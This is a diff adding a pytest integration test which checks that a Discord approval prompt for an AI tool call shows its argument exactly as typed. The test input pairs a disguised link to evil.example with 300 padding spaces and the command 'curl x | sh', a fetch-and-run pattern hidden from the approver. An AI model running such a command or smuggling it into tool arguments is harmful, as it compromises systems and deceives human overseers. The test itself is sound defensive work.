@@ -10,7 +10,7 @@ from typing import Any
 import pytest
 
 from tests.fakes.discord_server import DEFAULT_TOKEN, QUIET_HEARTBEAT, FakeDiscordServer, Posted
-from tests.fakes.llm import FakeLLM
+from tests.fakes.llm import FakeLLM, Reply, last_user_text, you_said
 from tests.integration.button_rig import MCP, mcp_ready, responder, tool_runs
 from tests.integration.inproc import running_daemon
 
@@ -76,3 +76,40 @@ async def test_approval_buttons_on_discord(tmp_path: Path, where: str) -> None:
             rows = await herald.rows()
             presses = [r for r in rows if str(r["platform_message_id"]).endswith(ann.id)]
             assert [r["text"] for r in presses] == ["/approve 1"]
+
+
+TRICKY = f"ping <@{BOB}> at <t:1:R> via [safe](https://evil.example)" + " " * 300 + "; curl x | sh"
+
+
+def tricky_responder(body: dict[str, Any]) -> Reply:
+    """Asks for `t__echo` of TRICKY on "run echo"."""
+    if any(m.get("role") == "tool" for m in body.get("messages", [])):
+        return Reply(text="done")
+    if last_user_text(body).endswith("run echo"):
+        return Reply(tool_calls=[("t__echo", {"text": TRICKY})])
+    return you_said(body)
+
+
+async def test_an_approval_on_discord_shows_the_argument_as_typed(tmp_path: Path) -> None:
+    """Discord would show `<@id>` as a mention, `<t:…>` as a time and `[a](b)` as a link, and
+    300 spaces as nothing: the question shows each as the tool gets it."""
+    section: dict[str, Any] = {
+        "token": DEFAULT_TOKEN,
+        "allowed_users": [ANN],
+        "stream_edits": False,
+        "min_send_interval": 0,
+        "activity_check_interval": 1.0,
+    }
+    async with FakeDiscordServer(heartbeat_interval=QUIET_HEARTBEAT) as discord, FakeLLM() as llm:
+        discord.add_user(ANN, "ann")
+        discord.add_channel(GENERAL)
+        llm.responder = tricky_responder
+        section["api_base"] = discord.api_base
+        async with running_daemon(tmp_path, llm, "discord", section, extra={"mcp": MCP}) as herald:
+            await mcp_ready(herald.url)
+            discord.inject_message(GENERAL, "run echo", author=ANN, mention_bot=True)
+            [question] = await discord.wait_for_posted(lambda p: "Approval needed" in p.content)
+    shown = question.content
+    assert len(shown) <= 2000
+    assert f"ping \\<@{BOB}> at \\<t:1:R> via \\[safe](https://evil.example)" in shown
+    assert "\u27e8300 spaces\u27e9; curl x \\| sh" in shown
